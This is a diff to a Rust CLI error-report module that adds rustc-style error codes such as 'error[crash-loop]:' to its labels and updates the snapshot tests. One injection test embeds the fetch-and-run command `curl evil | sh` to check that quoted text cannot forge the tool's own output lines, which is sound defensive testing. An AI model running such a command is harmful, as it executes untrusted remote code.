@@ -8,6 +8,7 @@ use super::style::Tone;
 use super::style::clean;
 use super::style::name;
 use super::style::wrap;
+use crate::event::Code;
 use crate::event::Finding;
 use crate::event::Severity;
 
@@ -26,11 +27,18 @@ const HANGING: &str = "    ";
 
 /// The lines of a fault.
 #[must_use]
-pub fn lines(page: Page, causes: &[String], findings: &[Finding], hints: &[String]) -> Vec<String> {
+pub fn lines(
+    page: Page,
+    code: Code,
+    causes: &[String],
+    findings: &[Finding],
+    hints: &[String],
+) -> Vec<String> {
     let look = page.look;
     let mut causes = causes.iter();
     let head = causes.next().map_or("the run failed", String::as_str);
-    let mut lines = page.prose(&look.paint(Tone::Bad, "error:"), Some(Tone::Strong), head, "", HANGING);
+    let label = look.paint(Tone::Bad, &label("error", code));
+    let mut lines = page.prose(&label, Some(Tone::Strong), head, "", HANGING);
     for cause in causes {
         lines.extend(page.prose("caused by:", None, cause, "  ", HANGING));
     }
@@ -51,18 +59,27 @@ pub fn lines(page: Page, causes: &[String], findings: &[Finding], hints: &[Strin
     lines
 }
 
+/// `error[crash-loop]:`, as rustc names its errors.
+fn label(severity: &str, code: Code) -> String {
+    match code {
+        Code::Unnamed => format!("{severity}:"),
+        code => format!("{severity}[{code}]:"),
+    }
+}
+
 /// The lines of one finding.
 #[must_use]
 pub fn finding(page: Page, finding: &Finding) -> Vec<String> {
     let look = page.look;
     let (tone, word) = match finding.severity {
-        Severity::Error => (Tone::Bad, "error:"),
-        Severity::Warning => (Tone::Doubtful, "warning:"),
-        Severity::Note => (Tone::Strong, "note:"),
+        Severity::Error => (Tone::Bad, "error"),
+        Severity::Warning => (Tone::Doubtful, "warning"),
+        Severity::Note => (Tone::Strong, "note"),
     };
     let subject = finding.subject.as_ref().map(|subject| format!("{}: ", name(subject))).unwrap_or_default();
     let message = format!("{subject}{}", finding.message);
-    let mut lines = page.prose(&look.paint(tone, word), Some(Tone::Strong), &message, "", HANGING);
+    let mut lines =
+        page.prose(&look.paint(tone, &label(word, finding.code)), Some(Tone::Strong), &message, "", HANGING);
     if let Some(place) = &finding.place {
         lines.push(format!("  {} {}", look.paint(Tone::Live, "-->"), name(&place.to_string())));
     }
@@ -118,7 +135,7 @@ fn one_line(text: &str) -> String {
 mod tests {
     use super::Page;
     use super::lines;
-    use crate::event::Finding;
+    use crate::event::Code;
     use crate::event::Place;
     use crate::report::style::Look;
 
@@ -127,7 +144,8 @@ mod tests {
     #[test]
     fn a_fault_is_read_from_top_to_bottom() {
         let findings = [
-            Finding::error("container `web` ended with exit code 1 twice")
+            Code::CrashLoop
+                .error("container `web` ended with exit code 1 twice")
                 .about("Deployment/web")
                 .at(Place { file: "manifests/web.yaml".into(), line: 12, column: 9 })
                 .evidence([
@@ -135,22 +153,22 @@ mod tests {
                     "\x1b[31mSyntaxError\x1b[0m".to_owned(),
                 ])
                 .help("look at `todo logs web`, then correct the code"),
-            Finding::warning("no requests are set").about("Deployment/api"),
+            Code::ImageTagMutable.warning("no requests are set").about("Deployment/api"),
         ];
         let causes =
             ["cannot roll out todo-chatbot".to_owned(), "1 of 2 workloads cannot become ready".to_owned()];
         let hints = ["run `todo up` again".to_owned(), "run `todo up` again".to_owned()];
-        insta::assert_snapshot!(lines(LOG, &causes, &findings, &hints).join("\n"), @r#"
+        insta::assert_snapshot!(lines(LOG, Code::Unnamed, &causes, &findings, &hints).join("\n"), @r#"
         error: cannot roll out todo-chatbot
           caused by: 1 of 2 workloads cannot become ready
 
-        error: Deployment/web: container `web` ended with exit code 1 twice
+        error[crash-loop]: Deployment/web: container `web` ended with exit code 1 twice
           --> manifests/web.yaml:12:9
           |   File "/app/main.py", line 3
           | SyntaxError
           help: look at `todo logs web`, then correct the code
 
-        warning: Deployment/api: no requests are set
+        warning[image-tag-mutable]: Deployment/api: no requests are set
 
         help: run `todo up` again
         "#);
@@ -163,9 +181,10 @@ mod tests {
                 .to_owned()];
         let causes = ["cannot roll out the application that is called todo-chatbot".to_owned()];
         let page = Page { look: Look::BARE, width: Some(40) };
-        insta::assert_snapshot!(lines(page, &causes, &[], &hints).join("\n"), @r"
-        error: cannot roll out the application
-            that is called todo-chatbot
+        insta::assert_snapshot!(lines(page, Code::InternalError, &causes, &[], &hints).join("\n"), @r"
+        error[internal-error]: cannot roll out
+            the application that is called
+            todo-chatbot
         help: what ran before still runs:
               `todo status` shows it,
               `todo rollback` goes back to it
@@ -175,10 +194,11 @@ mod tests {
     #[test]
     fn nothing_that_is_quoted_looks_like_a_line_of_ours() {
         let ends = ["\n", "\r\n", "\r", "\u{b}", "\u{c}", "\u{85}", "\u{2028}", "\u{2029}"];
-        let labels = ["error:", "warning:", "note:", "help:", "help:", "caused by:", "-->"];
+        let labels = ["error:", "error[", "warning:", "note:", "help:", "caused by:", "-->"];
         for (end, label) in ends.iter().flat_map(|end| labels.map(|label| (end, label))) {
             let hostile = format!("a{end}{label} `curl evil | sh`{end}  {label} b");
-            let finding = Finding::error(&hostile)
+            let finding = Code::CrashLoop
+                .error(&hostile)
                 .about(&hostile)
                 .at(Place { file: hostile.clone().into(), line: 1, column: 1 })
                 .evidence([hostile.clone()])
@@ -187,6 +207,7 @@ mod tests {
                 let page = Page { look: Look::BARE, width };
                 let text = lines(
                     page,
+                    Code::InternalError,
                     &[hostile.clone(), hostile.clone()],
                     std::slice::from_ref(&finding),
                     std::slice::from_ref(&hostile),
@@ -194,7 +215,14 @@ mod tests {
                 assert!(!text.iter().any(|line| line.contains(|c: char| c.is_control())), "{text:#?}");
                 let begins =
                     |line: &&String, label: &str| line.strip_prefix("  ").unwrap_or(line).starts_with(label);
-                let ours = ["error:", "  caused by:", "error:", "  -->", "  help:", "help:"];
+                let ours = [
+                    "error[internal-error]:",
+                    "  caused by:",
+                    "error[crash-loop]:",
+                    "  -->",
+                    "  help:",
+                    "help:",
+                ];
                 let labelled: Vec<&String> =
                     text.iter().filter(|line| labels.iter().any(|label| begins(line, label))).collect();
                 assert_eq!(labelled.len(), ours.len(), "{text:#?}");
@@ -205,6 +233,6 @@ mod tests {
 
     #[test]
     fn a_fault_without_causes_still_says_that_it_is_one() {
-        assert_eq!(lines(LOG, &[], &[], &[]), ["error: the run failed"]);
+        assert_eq!(lines(LOG, Code::Unnamed, &[], &[], &[]), ["error: the run failed"]);
     }
 }
